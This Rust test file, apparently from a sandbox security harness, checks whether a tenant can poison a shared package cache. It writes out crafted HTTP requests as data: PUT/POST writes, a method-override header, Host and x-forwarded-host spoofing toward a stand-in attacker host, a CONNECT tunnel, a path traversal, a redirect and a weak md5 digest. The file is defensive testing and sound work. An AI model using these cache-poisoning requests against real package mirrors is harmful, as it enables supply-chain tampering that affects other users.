//! An honest index and honest files, and a sandbox that wants others to get
//! bytes of its own: by what it sends, by how it spells, and by pages that it
//! had a hand in.

use anyhow::ensure;
use belljar_domain::network::{Policy, Reach};
use belljar_scripted::digest;

use super::{
    Cache, EVIL, EVIL_PAGE, FILES, INDEX, PAGE, believed, expect_honest, install, link, packages,
    path, planted, promise, reads, right, serve, tenant,
};
use crate::attack::Seen;
use crate::harness::findings::Findings;
use crate::harness::say::{Script, connect, get};
use crate::harness::stage::Stage;
use crate::harness::world::World;

/// By what is tried for it.
const TRICKS: [&str; 15] = [
    "put", "post", "body", "override", "part", "query", "header", "host", "foreign", "own",
    "moved", "weak", "tunnel", "dots", "claimed",
];

/// Of which one who only wants to be in the way needs no cache that believes it.
const SLOW: &str = "slow";

/// The name of the file that a trick is about, for each of the sandboxes.
fn named(trick: &str, who: &str) -> String {
    format!("{trick}-{who}")
}

/// What somebody who may publish there has the index say, about everything that
/// could be of use.
fn evil_page(who: &str) -> String {
    let mut links = String::new();
    let mut promise = |trick: &str, host: &str, place: &str, bytes: fn(&str) -> Vec<u8>| {
        let name = named(trick, who);
        links += &link(host, &format!("{place}/{name}.whl{}", query(trick, &name)), &bytes(&name));
    };
    promise("query", FILES, "/echo", right);
    promise("header", FILES, "/echo", right);
    promise("foreign", EVIL, "/evil", right);
    promise("own", EVIL, "/evil", planted);
    promise("moved", EVIL, "/moved", right);
    promise("claimed", FILES, "/files", planted);
    promise(SLOW, EVIL, "/drip", right);
    let weak = named("weak", who);
    let weak = format!("http://{EVIL}/evil/{weak}.whl#md5={}", &digest(&right(&weak))[..32]);
    links + &format!("<a href=\"{weak}\">file</a>\n")
}

fn query(trick: &str, name: &str) -> String {
    match trick {
        "query" => format!("?{}", String::from_utf8_lossy(&planted(name)).replace(' ', "+")),
        SLOW => "?ms=100".to_owned(),
        _ => String::new(),
    }
}

/// All tricks, said one after the other.
fn asks(cache: Cache, who: &str) -> Vec<Script> {
    let mut scripts = Vec::new();
    for trick in TRICKS {
        let name = named(trick, who);
        let bytes = String::from_utf8_lossy(&planted(&name)).into_owned();
        let file = path(&name);
        let script = cache.script(&name);
        let sends = |method: &str, more: &str| {
            let length = bytes.len();
            format!(
                "{method} http://{FILES}{file} HTTP/1.1\r\nhost: {FILES}\r\n{more}\
                 content-length: {length}\r\n\r\n{bytes}"
            )
        };
        let with = |host: &str, path: &str, fields: &str| {
            format!("GET http://{host}{path} HTTP/1.1\r\n{fields}\r\n\r\n")
        };
        let own = format!("host: {FILES}\r\n");
        let evil = format!("/evil/{name}.whl");
        scripts.push(match trick {
            "put" => script.ask(sends("PUT", "")),
            "post" => script.ask(sends("POST", "")),
            "body" => script.ask(sends("GET", "")),
            "override" => script.ask(sends("POST", "x-http-method-override: PUT\r\n")),
            "part" => script.ask(with(FILES, &file, &format!("{own}range: bytes=0-11"))),
            "query" => script.ask(get(FILES, &format!("/echo/{name}.whl{}", query(trick, &name)))),
            "header" => {
                let fields = format!("{own}x-planted: {bytes}\r\nx-forwarded-host: {EVIL}");
                script.ask(with(FILES, &format!("/echo/{name}.whl"), &fields))
            }
            "host" => script.ask(with(EVIL, &evil, &format!("host: {FILES}"))),
            "moved" => script.ask(get(EVIL, &format!("/moved/{name}.whl"))).ask(get(EVIL, &evil)),
            "tunnel" => {
                let inside = format!("GET {evil} HTTP/1.1\r\nhost: {EVIL}\r\n\r\n");
                script.ask(connect(&format!("{FILES}:80"))).ask(inside)
            }
            "dots" => script.ask(get(FILES, &format!("/files/../evil/{name}.whl"))),
            "claimed" => {
                // One that is not to be had otherwise is asked of who has it.
                script.ask(get(FILES, &file)).ask(get(EVIL, &evil))
            }
            _ => script.ask(get(EVIL, &evil)),
        });
    }
    scripts
}

/// What the attacker's server has for each of them.
fn set_traps(world: &World, who: &str) {
    for trick in TRICKS {
        let name = named(trick, who);
        let bytes = planted(&name);
        for place in ["/evil", "/files/../evil"] {
            let place = format!("{place}/{name}.whl");
            world.web.place(&place, "application/octet-stream", &bytes);
        }
        let there = format!(
            "HTTP/1.1 302 Found\r\nlocation: http://{EVIL}/evil/{name}.whl\r\ncontent-length: 0\r\n\r\n"
        );
        world.web.place_raw(&format!("/moved/{name}.whl"), there.as_bytes());
    }
}

/// Everything that a sandbox can say to have its own bytes kept for others.
pub(in super::super) async fn tricks(stage: Stage, control: bool) -> anyhow::Result<Seen> {
    let world = World::start().await?;
    // One that may fetch packages only, and one that may go anywhere.
    let people = ["packages", "open"];
    let all = |who: &str| TRICKS.map(|trick| named(trick, who));
    let mut names: Vec<String> = people.iter().flat_map(|who| all(who)).collect();
    names.extend(people.map(|who| named(SLOW, who)));
    promise(&world, &names);
    people.iter().for_each(|who| set_traps(&world, who));
    if control {
        // Asking the right place for the right file plants nothing.
        let plant = |name: &String| !name.starts_with(SLOW) && !name.starts_with("claimed");
        let names: Vec<String> = names.into_iter().filter(plant).collect();
        serve(&world, &names);
        let say = |cache| asks(cache, people[0]);
        let names: Vec<String> =
            names.into_iter().filter(|name| name.ends_with(people[0])).collect();
        return believed(&stage, &world, say, &names).await;
    }
    serve(&world, &names);
    let mut findings = Findings::default();
    let mut running = Vec::new();
    for who in people {
        world.web.place(EVIL_PAGE, "text/html", evil_page(who).as_bytes());
        let mut policy = packages(&[INDEX, EVIL]);
        if who == "open" {
            policy = Policy { reach: Reach::Open, ..policy };
        }
        let sandbox = tenant(&stage, &world, "tenant", policy).await?;
        // The same page, as part of the index and as one of an index of its own.
        let pages = [reads(INDEX, EVIL_PAGE), reads(EVIL, EVIL_PAGE), reads(INDEX, PAGE)];
        let (_, read) = stage.say(&sandbox, &pages).await?;
        ensure!(read.iter().all(|said| said.status() == 200), "no pages: {:?}", read[0].brief());
        let (_, said) = stage.say(&sandbox, &asks(Cache::Ours, who)).await?;
        for said in &said {
            let refused = matches!(said.status(), 400 | 403 | 405);
            let sent = ["put", "post", "override", "tunnel"];
            if who == "packages" && sent.iter().any(|trick| said.name.starts_with(trick)) {
                findings.expect(refused, "indexes and files are only read", said.brief());
            }
        }
        // Fetching what never ends, under the digest of a file that others want.
        let slow = named(SLOW, who);
        let place = format!("/drip/{slow}.whl{}", query(SLOW, &slow));
        let slow = Script::gateway(slow).send(get(EVIL, &place)).mark("slow").rest(40.0);
        let mut holding = stage.saying(&sandbox, &[slow], false).await?;
        holding.until("MARK slow").await?;
        running.push(holding);
    }
    // Those that are held up are fetched without the cache.
    let keeps = names.len() - people.len();
    install(&stage, &world, &names, keeps, &mut findings).await?;
    for holding in running {
        holding.call.kill();
        holding.finish().await?;
    }
    expect_honest(&world, keeps, &mut findings)?;
    Ok(findings.seen())
}
